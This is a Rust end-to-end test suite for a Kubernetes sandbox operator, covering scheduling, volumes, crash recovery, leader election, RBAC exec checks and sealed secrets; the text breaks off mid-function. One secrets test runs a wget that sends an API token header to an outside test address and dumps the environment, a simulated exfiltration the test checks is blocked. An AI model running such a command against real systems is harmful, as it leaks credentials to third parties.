//! Cluster e2e: real kube-apiserver + etcd, the operator and node-agents as host processes,
//! sandboxes run by crun from the local registry. Run with `tests/e2e/run.sh`.

use microsandbox_client::api::ExecRequest;
use microsandbox_crds::{Sandbox, SandboxPhase};
use microsandbox_e2e::{is_ready, sandbox_yaml, Cluster};
use std::collections::BTreeSet;
use std::time::Duration;

const READY_TIMEOUT: Duration = Duration::from_secs(60);

fn condition<'a>(
    s: &'a Sandbox,
    type_: &str,
) -> Option<&'a k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition> {
    s.status
        .as_ref()?
        .conditions
        .iter()
        .find(|c| c.type_ == type_)
}

fn node_of(s: &Sandbox) -> String {
    s.status
        .as_ref()
        .and_then(|st| st.node.clone())
        .unwrap_or_default()
}

fn local_of(s: &Sandbox) -> String {
    s.status
        .as_ref()
        .and_then(|st| st.agent.as_ref())
        .map(|a| a.sandbox.clone())
        .expect("status.agent.sandbox")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_ready_exec_delete_leaves_nothing() {
    let c = Cluster::new("e2e-lifecycle").await;
    let _op = c.operator(&[]);
    let agent = c.agent("n1", &[]);

    // The example users are told to apply, as is (container isolation variant).
    let example = std::fs::read_to_string(
        microsandbox_e2e::workspace().join("examples/sandbox-container.yaml"),
    )
    .expect("examples/sandbox-container.yaml");
    c.apply(&example);
    let s = c
        .wait_sandbox("hello", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let st = s.status.clone().expect("status");
    assert_eq!(st.node.as_deref(), Some("n1"));
    assert_eq!(st.phase, Some(SandboxPhase::Running));
    assert_eq!(st.agent_endpoint.as_deref(), Some(agent.endpoint.as_str()));
    assert!(st
        .image_digest
        .as_deref()
        .is_some_and(|d| d.starts_with("sha256:")));
    assert_eq!(st.observed_generation, s.metadata.generation);
    assert!(st.started_at.is_some());
    assert!(s
        .metadata
        .finalizers
        .as_ref()
        .is_some_and(|f| f.contains(&"microsandbox.dev/node-agent".to_string())
            && f.contains(&"microsandbox.dev/operator".to_string())));

    // Exec through the node-agent named in the status.
    let local = local_of(&s);
    let client = agent.client().await;
    let out = client
        .exec(
            &local,
            ExecRequest {
                command: "sh".into(),
                args: vec![
                    "-c".into(),
                    "echo hello from $(hostname); echo err >&2".into(),
                ],
                ..Default::default()
            },
        )
        .await
        .expect("exec");
    assert_eq!(out.exit_code, 0);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("hello from {local}\n")
    );
    assert_eq!(String::from_utf8_lossy(&out.stderr), "err\n");

    // kubectl shows what matters.
    let (ok, table, _) = c.kubectl(&["get", "sandboxes", "-n", &c.ns], None);
    assert!(ok);
    let row = table.lines().find(|l| l.starts_with("hello")).expect("row");
    for col in ["Running", "container", "n1", "busybox"] {
        assert!(row.contains(col), "{col} missing in {table}");
    }
    let (ok, _, _) = c.kubectl(&["get", "sbx", "-n", &c.ns], None);
    assert!(ok, "short name sbx");
    let (ok, explain, err) = c.kubectl(&["explain", "sandboxes.spec.isolation"], None);
    assert!(ok, "{err}");
    assert!(explain.contains("hardware-isolated"), "{explain}");
    let reasons = c.event_reasons("hello");
    assert!(reasons.contains(&"Scheduled".to_string()), "{reasons:?}");

    // Delete: the object goes only after the node-agent removed everything.
    let (ok, _, err) = c.kubectl(
        &[
            "delete",
            "-n",
            &c.ns,
            "sandbox",
            "hello",
            "--wait=true",
            "--timeout=60s",
        ],
        None,
    );
    assert!(ok, "{err}");
    assert!(c.sandboxes().get_opt("hello").await.unwrap().is_none());
    assert!(client.list().await.expect("list").is_empty());
    assert_eq!(agent.leftovers(&local), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_nodes_of_one_slot_three_sandboxes_one_pending_with_reason() {
    let c = Cluster::new("e2e-capacity").await;
    let _op = c.operator(&[]);
    let _a = c.agent("n1", &["--capacity-sandboxes", "1"]);
    let _b = c.agent("n2", &["--capacity-sandboxes", "1"]);
    // Wait for both leases before applying, so all three are scheduled against two nodes.
    wait_leases(&c, 2).await;
    let yaml: Vec<String> = ["s1", "s2", "s3"]
        .iter()
        .map(|n| sandbox_yaml(n, ""))
        .collect();
    c.apply(&yaml.join("---\n"));

    let api = c.sandboxes();
    let (mut ready, mut pending) = (Vec::new(), Vec::new());
    let start = std::time::Instant::now();
    while start.elapsed() < READY_TIMEOUT {
        let all = api.list(&Default::default()).await.unwrap().items;
        ready = all.iter().filter(|s| is_ready(s)).cloned().collect();
        pending = all
            .iter()
            .filter(|s| condition(s, "Scheduled").is_some_and(|c| c.status == "False"))
            .cloned()
            .collect();
        if ready.len() == 2 && pending.len() == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        (ready.len(), pending.len()),
        (2, 1),
        "two Ready, one Pending"
    );
    let nodes: BTreeSet<String> = ready.iter().map(node_of).collect();
    assert_eq!(nodes, BTreeSet::from(["n1".to_string(), "n2".to_string()]));
    let p = &pending[0];
    assert_eq!(
        p.status.as_ref().unwrap().phase,
        Some(SandboxPhase::Pending)
    );
    let sc = condition(p, "Scheduled").unwrap();
    assert_eq!(sc.reason, "Unschedulable");
    assert_eq!(sc.message, "0/2 nodes are available: 2 too many sandboxes");
    let pname = p.metadata.name.clone().unwrap();
    assert!(c
        .event_reasons(&pname)
        .contains(&"FailedScheduling".to_string()));

    // Room frees up: the pending one is scheduled on the freed node.
    let freed = ready[0].metadata.name.clone().unwrap();
    let freed_node = node_of(&ready[0]);
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandbox", &freed, "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
    let s = c
        .wait_sandbox(&pname, READY_TIMEOUT, "Ready", is_ready)
        .await;
    assert_eq!(node_of(&s), freed_node);
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
}

async fn wait_leases(c: &Cluster, n: usize) {
    let api: kube::Api<k8s_openapi::api::coordination::v1::Lease> =
        kube::Api::namespaced(c.client.clone(), &c.system_ns);
    let start = std::time::Instant::now();
    loop {
        let got = api.list(&Default::default()).await.unwrap().items.len();
        if got >= n {
            return;
        }
        assert!(start.elapsed() < READY_TIMEOUT, "{got}/{n} node leases");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn volume_placement_is_honoured() {
    let c = Cluster::new("e2e-volumes").await;
    let _op = c.operator(&[]);
    let _a = c.agent("n1", &["--node-label", "zone=a"]);
    let b = c.agent("n2", &["--node-label", "zone=b"]);
    wait_leases(&c, 2).await;
    c.apply(
        "apiVersion: microsandbox.dev/v1alpha1\nkind: Volume\nmetadata:\n  name: zb\nspec:\n  size: 1Gi\n  placement:\n    nodeSelector:\n      zone: b\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Volume\nmetadata:\n  name: pinned\nspec:\n  size: 1Gi\n  placement:\n    node: n1\n",
    );
    let vols = c.volumes();
    let start = std::time::Instant::now();
    let placed = loop {
        let zb = vols.get("zb").await.unwrap();
        let pinned = vols.get("pinned").await.unwrap();
        let n = |v: &microsandbox_crds::Volume| v.status.as_ref().and_then(|s| s.node.clone());
        if let (Some(a), Some(b)) = (n(&zb), n(&pinned)) {
            break (a, b);
        }
        assert!(start.elapsed() < READY_TIMEOUT, "volumes not placed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(placed, ("n2".to_string(), "n1".to_string()));

    let mount = |v: &str| format!("  volumes:\n  - path: /data\n    named:\n      name: {v}\n");
    let two = "  volumes:\n  - path: /a\n    named:\n      name: zb\n  - path: /b\n    named:\n      name: pinned\n";
    let missing = "  volumes:\n  - path: /a\n    named:\n      name: nope\n";
    c.apply(
        &[
            sandbox_yaml("on-zb", &mount("zb")),
            sandbox_yaml("on-pinned", &mount("pinned")),
            sandbox_yaml("both", two),
            sandbox_yaml("missing", missing),
        ]
        .join("---\n"),
    );
    let bound = |s: &Sandbox| !node_of(s).is_empty();
    let s = c.wait_sandbox("on-zb", READY_TIMEOUT, "bound", bound).await;
    assert_eq!(node_of(&s), "n2");
    let s = c
        .wait_sandbox("on-pinned", READY_TIMEOUT, "bound", bound)
        .await;
    assert_eq!(node_of(&s), "n1");
    let unsched = |reason: &'static str| {
        move |s: &Sandbox| condition(s, "Scheduled").is_some_and(|c| c.reason == reason)
    };
    let s = c
        .wait_sandbox(
            "both",
            READY_TIMEOUT,
            "in conflict",
            unsched("VolumeNodeConflict"),
        )
        .await;
    assert!(condition(&s, "Scheduled")
        .unwrap()
        .message
        .contains("different nodes"));
    c.wait_sandbox(
        "missing",
        READY_TIMEOUT,
        "VolumeNotFound",
        unsched("VolumeNotFound"),
    )
    .await;
    // The node-agent provisioned the Volume where it lives and mounts it.
    let s = c
        .wait_sandbox("on-zb", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let local = local_of(&s);
    let script =
        "echo kept > /data/f; dd if=/dev/zero of=/data/big bs=1M count=4 2>/dev/null; cat /data/f";
    let out = b
        .client()
        .await
        .exec(
            &local,
            ExecRequest {
                command: "sh".into(),
                args: vec!["-c".into(), script.into()],
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "kept\n");
    let start = std::time::Instant::now();
    loop {
        let v = vols.get("zb").await.unwrap();
        let st = v.status.clone().unwrap_or_default();
        let used_mib = st
            .used
            .as_deref()
            .and_then(|u| u.strip_suffix("Mi"))
            .and_then(|n| n.parse::<u64>().ok())
            .unwrap_or(0);
        if st.phase == Some(microsandbox_crds::VolumePhase::Ready) && used_mib >= 4 {
            assert!(st
                .conditions
                .iter()
                .any(|c| c.type_ == "Provisioned" && c.status == "True"));
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(90),
            "usage not reported: {st:?}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    c.wait_sandbox("on-pinned", READY_TIMEOUT, "Ready", is_ready)
        .await;
    // The data outlives the sandbox.
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandbox", "on-zb", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
    // spec.size may grow: the node grows the unused volume (offline); its data stays.
    let (ok, _, err) = c.kubectl(
        &[
            "patch",
            "volume",
            "zb",
            "-n",
            &c.ns,
            "--type=merge",
            "-p",
            r#"{"spec":{"size":"2Gi"}}"#,
        ],
        None,
    );
    assert!(ok, "{err}");
    let start = std::time::Instant::now();
    loop {
        let quotas: Vec<u64> = b
            .client()
            .await
            .list_volumes()
            .await
            .unwrap()
            .iter()
            .map(|v| v.quota_mib)
            .collect();
        if quotas == [2048] {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(90),
            "volume not grown: {quotas:?}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    c.apply(&sandbox_yaml("on-zb-again", &mount("zb")));
    let s = c
        .wait_sandbox("on-zb-again", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let out = b
        .client()
        .await
        .exec(
            &local_of(&s),
            ExecRequest {
                command: "cat".into(),
                args: vec!["/data/f".into()],
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "kept\n");
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
    // reclaimPolicy Delete: the data goes with the object.
    let (ok, _, err) = c.kubectl(
        &[
            "delete",
            "-n",
            &c.ns,
            "volumes",
            "--all",
            "--wait=true",
            "--timeout=60s",
        ],
        None,
    );
    assert!(ok, "{err}");
    assert!(b.client().await.list_volumes().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operator_killed_mid_reconcile_no_duplicates_no_stuck_finalizers() {
    let c = Cluster::new("e2e-opkill").await;
    let mut op = c.operator(&[]);
    let a = c.agent("n1", &[]);
    let b = c.agent("n2", &[]);
    wait_leases(&c, 2).await;
    let names: Vec<String> = (0..8).map(|i| format!("k{i}")).collect();
    let yaml: Vec<String> = names.iter().map(|n| sandbox_yaml(n, "")).collect();
    c.apply(&yaml.join("---\n"));
    tokio::time::sleep(Duration::from_millis(150)).await;
    op.kill9();
    tokio::time::sleep(Duration::from_millis(500)).await;
    op.restart();
    let mut locals = BTreeSet::new();
    for n in &names {
        let s = c.wait_sandbox(n, READY_TIMEOUT, "Ready", is_ready).await;
        locals.insert((node_of(&s), local_of(&s)));
    }
    // Exactly one sandbox per object, on the node its status names.
    let mut running = BTreeSet::new();
    for agent in [&a, &b] {
        for info in agent.client().await.list().await.unwrap() {
            running.insert((agent.node.clone(), info.name));
        }
    }
    assert_eq!(running, locals);

    // Deleting with the operator killed in the middle: nothing stuck.
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=false"],
        None,
    );
    assert!(ok, "{err}");
    op.kill9();
    tokio::time::sleep(Duration::from_millis(300)).await;
    op.restart();
    c.wait_no_sandboxes(READY_TIMEOUT).await;
    for agent in [&a, &b] {
        assert!(agent.client().await.list().await.unwrap().is_empty());
    }
    for (node, local) in &locals {
        let agent = if node == "n1" { &a } else { &b };
        assert_eq!(agent.leftovers(local), Vec::<String>::new());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn node_agent_killed_status_reflects_it_and_recovers() {
    let c = Cluster::new("e2e-agentkill").await;
    let _op = c.operator(&[]);
    let mut agent = c.agent("n1", &[]);
    c.apply(&sandbox_yaml("survivor", ""));
    let s = c
        .wait_sandbox("survivor", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let local = local_of(&s);
    agent.proc.kill9();
    // Lease of 6 s: NodeLost well within 30 s.
    let s = c
        .wait_sandbox("survivor", Duration::from_secs(30), "NodeLost", |s| {
            condition(s, "Ready").is_some_and(|c| c.status == "False" && c.reason == "NodeLost")
        })
        .await;
    assert!(condition(&s, "Ready").unwrap().message.contains("n1"));
    // The sandbox itself survived the agent; the restarted agent re-adopts it.
    agent.proc.restart();
    let s = c
        .wait_sandbox("survivor", READY_TIMEOUT, "Ready again", is_ready)
        .await;
    assert_eq!(local_of(&s), local);
    let out = agent
        .client()
        .await
        .exec(
            &local,
            ExecRequest {
                command: "true".into(),
                ..Default::default()
            },
        )
        .await
        .expect("exec after re-adoption");
    assert_eq!(out.exit_code, 0);
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandbox", "survivor", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
    assert_eq!(agent.leftovers(&local), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apiserver_restart_operator_and_agent_recover() {
    let c = Cluster::new("e2e-apirestart").await;
    let _op = c.operator(&[]);
    let agent = c.agent("n1", &[]);
    c.apply(&sandbox_yaml("before", ""));
    c.wait_sandbox("before", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let dir = std::env::var("MSB_K8S_DIR").expect("MSB_K8S_DIR");
    let status = std::process::Command::new(
        microsandbox_e2e::workspace().join("tests/e2e/control-plane/restart-apiserver.sh"),
    )
    .arg(&dir)
    .status()
    .expect("restart script");
    assert!(status.success());
    c.apply(&sandbox_yaml("after", ""));
    let s = c
        .wait_sandbox("after", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let local = local_of(&s);
    let (ok, _, err) = c.kubectl(
        &[
            "delete",
            "-n",
            &c.ns,
            "sandboxes",
            "--all",
            "--wait=true",
            "--timeout=60s",
        ],
        None,
    );
    assert!(ok, "{err}");
    assert!(agent.client().await.list().await.unwrap().is_empty());
    assert_eq!(agent.leftovers(&local), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admission_isolation_and_lifetime() {
    let c = Cluster::new("e2e-policy").await;
    let _op = c.operator(&[]);
    let agent = c.agent("n1", &[]);
    wait_leases(&c, 1).await;
    // microvm is not offered by this node (no KVM guest boot here): Pending with the reason.
    c.apply(&sandbox_yaml("vm", "").replace("isolation: container", "isolation: microvm"));
    let s = c
        .wait_sandbox("vm", READY_TIMEOUT, "unschedulable", |s| {
            condition(s, "Scheduled").is_some_and(|c| c.status == "False")
        })
        .await;
    assert_eq!(
        condition(&s, "Scheduled").unwrap().message,
        "0/1 nodes are available: 1 no microvm isolation"
    );

    // shutdownAfter stops it (object stays), ttlAfterFinished deletes it afterwards.
    c.apply(&sandbox_yaml(
        "short",
        "  lifetime:\n    shutdownAfter: 2s\n    ttlAfterFinished: 3s\n",
    ));
    let s = c
        .wait_sandbox("short", READY_TIMEOUT, "stopped", |s| {
            s.status.as_ref().and_then(|st| st.phase) == Some(SandboxPhase::Stopped)
        })
        .await;
    assert_eq!(condition(&s, "Ready").unwrap().reason, "LifetimeExpired");
    let local = local_of(&s);
    let start = std::time::Instant::now();
    while c.sandboxes().get_opt("short").await.unwrap().is_some() {
        assert!(
            start.elapsed() < READY_TIMEOUT,
            "ttlAfterFinished did not delete"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(agent.leftovers(&local), Vec::<String>::new());

    // Without the namespace label, container isolation is refused.
    let (ok, _, err) = c.kubectl(
        &[
            "label",
            "ns",
            &c.ns,
            "microsandbox.dev/allow-container-isolation-",
        ],
        None,
    );
    assert!(ok, "{err}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    c.apply(&sandbox_yaml("weak", ""));
    let s = c
        .wait_sandbox("weak", READY_TIMEOUT, "refused", |s| {
            condition(s, "Scheduled").is_some_and(|c| c.reason == "IsolationNotAllowed")
        })
        .await;
    assert!(condition(&s, "Scheduled")
        .unwrap()
        .message
        .contains("microsandbox.dev/allow-container-isolation=true"));
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kubernetes_users_reach_a_sandbox_only_as_rbac_allows() {
    use microsandbox_client::{AgentClient, ClientError, ErrorCode};
    let c = Cluster::new("e2e-authz").await;
    let _op = c.operator(&[]);
    let agent = c.agent("n1", &[]);
    c.apply(&[sandbox_yaml("mine", ""), sandbox_yaml("other", "")].join("---\n"));
    let mine = local_of(
        &c.wait_sandbox("mine", READY_TIMEOUT, "Ready", is_ready)
            .await,
    );
    let other = local_of(
        &c.wait_sandbox("other", READY_TIMEOUT, "Ready", is_ready)
            .await,
    );

    // alice may exec in "mine" only; mallory has no role at all.
    let ns = c.ns.clone();
    c.apply(&format!(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: alice\n---\napiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: mallory\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: exec-mine\nrules:\n- apiGroups: [microsandbox.dev]\n  resources: [sandboxes/exec]\n  resourceNames: [mine]\n  verbs: [create]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: alice-exec-mine\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: Role\n  name: exec-mine\nsubjects:\n- kind: ServiceAccount\n  name: alice\n  namespace: {ns}\n"
    ));
    let token = |sa: &str| {
        microsandbox_e2e::run("kubectl", &["create", "token", sa, "-n", &ns], None)
            .trim()
            .to_string()
    };
    let as_user = |t: String| AgentClient::new(agent.endpoint.parse().unwrap(), Some(t));
    let alice = as_user(token("alice"));
    let mallory = as_user(token("mallory"));
    let code = |r: Result<microsandbox_client::Output, ClientError>| match r {
        Err(ClientError::Api(e)) => Some(e.code),
        Ok(_) => None,
        Err(e) => panic!("unexpected error {e}"),
    };
    let echo = || ExecRequest {
        command: "echo".into(),
        args: vec!["in".into()],
        ..Default::default()
    };

    let out = alice
        .exec(&mine, echo())
        .await
        .expect("alice execs in mine");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "in\n");
    assert_eq!(
        code(alice.exec(&other, echo()).await),
        Some(ErrorCode::Forbidden)
    );
    assert_eq!(
        code(mallory.exec(&mine, echo()).await),
        Some(ErrorCode::Forbidden)
    );
    // Lifecycle is the Sandbox object's business, even for alice.
    match alice.remove(&mine).await {
        Err(ClientError::Api(e)) => assert_eq!(e.code, ErrorCode::Forbidden, "{}", e.message),
        other => panic!("alice removed a sandbox: {other:?}"),
    }
    let garbage = as_user("not-a-token".into());
    assert_eq!(
        code(garbage.exec(&mine, echo()).await),
        Some(ErrorCode::Unauthorized)
    );
    // The sandbox is untouched.
    let out = alice.exec(&mine, echo()).await.expect("still there");
    assert_eq!(out.exit_code, 0);
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_references_are_resolved() {
    let c = Cluster::new("e2e-secrets").await;
    let _op = c.operator(&[]);
    c.apply(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: api\nstringData:\n  token: s3cr3t-value\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Secret\nmetadata:\n  name: good\nspec:\n  secretRef: {name: api, key: token}\n  allowHosts: [api.example.com]\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Secret\nmetadata:\n  name: badkey\nspec:\n  secretRef: {name: api, key: nope}\n  allowHosts: [api.example.com]\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Secret\nmetadata:\n  name: missing\nspec:\n  secretRef: {name: absent, key: token}\n  allowHosts: [api.example.com]\n",
    );
    let api: kube::Api<microsandbox_crds::Secret> = kube::Api::namespaced(c.client.clone(), &c.ns);
    for (name, status, reason) in [
        ("good", "True", "Resolved"),
        ("badkey", "False", "KeyNotFound"),
        ("missing", "False", "SecretNotFound"),
    ] {
        let start = std::time::Instant::now();
        loop {
            let s = api.get(name).await.unwrap();
            let cond = s.status.as_ref().and_then(|st| {
                st.conditions
                    .iter()
                    .find(|c| c.type_ == "Resolved")
                    .cloned()
            });
            if let Some(cond) = cond {
                assert_eq!(
                    (cond.status.as_str(), cond.reason.as_str()),
                    (status, reason),
                    "{name}"
                );
                assert!(
                    !cond.message.contains("s3cr3t"),
                    "a value leaked into the status"
                );
                break;
            }
            assert!(start.elapsed() < READY_TIMEOUT, "{name} never resolved");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
    let log = std::fs::read_to_string(c.dir.join("operator.log")).unwrap_or_default();
    assert!(
        !log.contains("s3cr3t"),
        "a secret value reached the operator's log"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leader_election_fails_over_to_the_standby() {
    let c = Cluster::new("e2e-leader").await;
    let replica = |id: &str| {
        c.operator_replica(&[
            "--identity",
            id,
            "--lease-duration-secs",
            "4",
            "--lease-renew-secs",
            "1",
        ])
    };
    let mut a = replica("op-a");
    let mut b = replica("op-b");
    let _agent = c.agent("n1", &[]);
    let leases: kube::Api<k8s_openapi::api::coordination::v1::Lease> =
        kube::Api::namespaced(c.client.clone(), &c.system_ns);
    let holder = |l: Option<k8s_openapi::api::coordination::v1::Lease>| {
        l.and_then(|l| l.spec)
            .and_then(|s| s.holder_identity)
            .unwrap_or_default()
    };
    let start = std::time::Instant::now();
    let first = loop {
        let h = holder(leases.get_opt("microsandbox-operator").await.unwrap());
        if !h.is_empty() {
            break h;
        }
        assert!(start.elapsed() < READY_TIMEOUT, "no leader elected");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    c.apply(&sandbox_yaml("under-first", ""));
    c.wait_sandbox("under-first", READY_TIMEOUT, "Ready", is_ready)
        .await;

    // The leader dies without letting go; the standby takes over once the lease runs out.
    let (leader, other) = if first == "op-a" {
        (&mut a, "op-b")
    } else {
        (&mut b, "op-a")
    };
    leader.kill9();
    let start = std::time::Instant::now();
    loop {
        let h = holder(leases.get_opt("microsandbox-operator").await.unwrap());
        if h == other {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "{other} never took over (holder {h:?})"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    c.apply(&sandbox_yaml("under-second", ""));
    c.wait_sandbox("under-second", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=true"],
        None,
    );
    assert!(ok, "{err}");
}

/// `spec.secrets` in cluster mode: the operator seals the values to the bound node-agent's key
/// (node-agents may not read core Secrets at all); the guest sees a placeholder; the value is on
/// the bound node only, in the agent's 0600 file, and goes with the sandbox.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_values_reach_only_the_bound_node_sealed() {
    const VALUE: &str = "sk-e2e-5ea1ed-value-0042";
    let c = Cluster::new("e2e-sealed").await;
    let op = c.operator(&[]);
    let a1 = c.agent("n1", &[]);
    let a2 = c.agent("n2", &[]);
    wait_leases(&c, 2).await;

    // Its Secret does not exist yet: bound, not created, and it says why.
    c.apply(&sandbox_yaml(
        "job",
        "  secrets:\n  - {name: api, env: API_TOKEN}\n",
    ));
    let s = c
        .wait_sandbox("job", READY_TIMEOUT, "waiting for its Secret", |s| {
            condition(s, "SecretsSealed")
                .is_some_and(|c| c.status == "False" && c.reason == "SecretNotFound")
        })
        .await;
    assert_ne!(
        s.status.as_ref().and_then(|st| st.phase),
        Some(SandboxPhase::Running)
    );
    assert!(s.status.as_ref().unwrap().sealed_secrets.is_none());

    c.apply(&format!(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: api-core\nstringData:\n  token: {VALUE}\n---\napiVersion: microsandbox.dev/v1alpha1\nkind: Secret\nmetadata:\n  name: api\nspec:\n  secretRef: {{name: api-core, key: token}}\n  allowHosts: [api.example.com]\n"
    ));
    let s = c
        .wait_sandbox("job", READY_TIMEOUT, "Ready", is_ready)
        .await;
    let node = node_of(&s);
    let (bound, other) = if node == "n1" { (&a1, &a2) } else { (&a2, &a1) };
    let st = s.status.clone().unwrap();
    let sealed = st.sealed_secrets.clone().expect("status.sealedSecrets");
    let leases: kube::Api<k8s_openapi::api::coordination::v1::Lease> =
        kube::Api::namespaced(c.client.clone(), &c.system_ns);
    let lease = leases
        .get(&format!("microsandbox-node-{node}"))
        .await
        .unwrap();
    assert_eq!(
        lease.metadata.annotations.unwrap()["microsandbox.dev/sealing-key"],
        sealed.recipient,
        "sealed to the bound node's key"
    );
    assert_eq!(
        condition(&s, "SecretsSealed").map(|c| c.status.as_str()),
        Some("True")
    );
    let (ok, json, err) = c.kubectl(&["get", "sandbox", "job", "-n", &c.ns, "-o", "json"], None);
    assert!(ok, "{err}");
    assert!(!json.contains(VALUE), "the value is in the Sandbox object");

    // The guest holds a placeholder; the proxy knows it (a use over plain HTTP is blocked and
    // reported by the bound node's agent).
    let local = local_of(&s);
    let client = bound.client().await;
    let sh = |script: &str| ExecRequest {
        command: "sh".into(),
        args: vec!["-c".into(), script.into()],
        ..Default::default()
    };
    let out = client.exec(&local, sh("echo $API_TOKEN")).await.unwrap();
    let placeholder = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(placeholder.starts_with("msb-secret-"), "{placeholder:?}");
    let out = client
        .exec(
            &local,
            sh("wget -O- --header \"X-Key: $API_TOKEN\" http://203.0.113.7/x; env"),
        )
        .await
        .unwrap();
    let shown = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!shown.contains(VALUE));
    let v = client.secret_violations(&local).await.unwrap();
    assert!(
        v.iter()
            .any(|v| v.secret == "API_TOKEN" && v.host == "203.0.113.7"),
        "{v:?} {shown}"
    );
    // ... and says so on the Sandbox object, as a Warning Event (within one status poll).
    let start = std::time::Instant::now();
    while !c
        .event_reasons("job")
        .contains(&"SecretBlocked".to_string())
    {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "no SecretBlocked event: {:?}",
            c.event_reasons("job")
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }

    // Where the value is: the bound agent's 0600 file, nowhere else on either node (logs,
    // state, the sandbox's root filesystem), not in the operator's log.
    let file = bound
        .state
        .join("sandboxes")
        .join(&local)
        .join("secrets.json");
    assert_eq!(
        microsandbox_e2e::files_containing(&bound.state, VALUE.as_bytes()),
        vec![file.clone()]
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(microsandbox_e2e::files_containing(&other.state, VALUE.as_bytes()).is_empty());
    assert!(!op.log_text().contains(VALUE));

    let (ok, _, err) = c.kubectl(
        &[
            "delete",
            "-n",
            &c.ns,
            "sandbox",
            "job",
            "--wait=true",
            "--timeout=60s",
        ],
        None,
    );
    assert!(ok, "{err}");
    assert!(microsandbox_e2e::files_containing(&bound.state, VALUE.as_bytes()).is_empty());
}

/// Crash at every step, cluster mode: rounds of applying Sandboxes and deleting the previous
/// round's while the operator, the node-agent or both are killed with -9 at a random moment and
/// restarted after a random pause. After each round the objects converge: the new ones Ready on
/// exactly one running sandbox each, the deleted ones gone (no finalizer left behind), and the
/// agent runs nothing that no object claims. `MSB_CLUSTER_CRASH_ROUNDS` (default 6),
/// `MSB_CRASH_SEED` replays.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn crash_rounds_operator_and_agent_converge() {
    let rounds: usize = std::env::var("MSB_CLUSTER_CRASH_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(6);
    let seed = std::env::var("MSB_CRASH_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
